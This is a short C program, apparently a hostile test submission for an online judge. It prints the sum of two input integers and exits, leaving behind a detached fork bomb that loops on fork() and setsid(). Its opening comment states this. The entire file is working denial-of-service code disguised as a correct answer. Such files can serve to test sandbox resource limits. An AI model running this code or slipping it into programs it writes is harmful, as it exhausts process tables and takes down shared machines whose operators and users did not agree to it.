// Answers and exits, and leaves a fork bomb behind.
#include <stdio.h>
#include <unistd.h>

int main(void) {
    int a, b;
    scanf("%d %d", &a, &b);
    printf("%d\n", a + b);
    fflush(stdout);
    if (fork() != 0) {
        _exit(0);
    }
    for (;;) {
        fork();
        setsid();
    }
}
